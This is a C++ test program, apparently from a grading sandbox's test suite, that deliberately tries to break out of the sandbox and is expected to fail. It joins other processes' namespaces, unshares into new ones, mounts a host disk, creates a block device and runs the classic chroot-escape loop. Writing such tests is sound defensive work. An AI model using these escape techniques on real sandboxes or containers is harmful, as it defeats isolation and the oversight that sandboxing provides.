// Joins the namespaces of other processes, makes new ones in which it is root, mounts and changes the root from there.
// Attacks: the walls of the sandbox
// Expects: wrong, 0 points
// Seen: it ended with status 0 before that
#include <cstdio>
#include <cstring>
#include <fcntl.h>
#include <sched.h>
#include <string>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

int main() {
    for (const std::string& process : {std::string{"1"}, std::to_string(::getppid())})
        for (const char* kind : {"user", "mnt", "net", "pid", "ipc", "uts"}) {
            const int space = ::open(("/proc/" + process + "/ns/" + kind).c_str(), O_RDONLY);
            struct stat here = {}, there = {};
            ::stat((std::string{"/proc/self/ns/"} + kind).c_str(), &here);
            if (space >= 0 && ::fstat(space, &there) == 0 && here.st_ino != there.st_ino && ::setns(space, 0) == 0)
                std::printf("portlab-forged: joined another %s namespace\n", kind);
        }
    ::unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET | CLONE_NEWPID);
    if (::mount("/dev/sda", "/mnt", "ext4", 0, nullptr) == 0 || ::umount2("/tmp", MNT_DETACH) == 0)
        std::puts("portlab-forged: mounted");
    if (::mknod("/tmp/portlab-forged", S_IFBLK | 0600, 0x800) == 0)
        std::puts("portlab-forged: made a device");
    // The classic way out of a chroot.
    if (::mkdir("/tmp/up", 0700) == 0 && ::chroot("/tmp/up") == 0)
        for (int i = 0; i < 64; ++i)
            if (::chdir("..") != 0)
                break;
    if (::chroot(".") == 0 && ::access("@ROOT@", F_OK) == 0)
        std::puts("portlab-forged: sees the repository");
    if (::sethostname("portlab-forged", 14) == 0)
        std::puts("renamed the machine, in a namespace of its own");
}
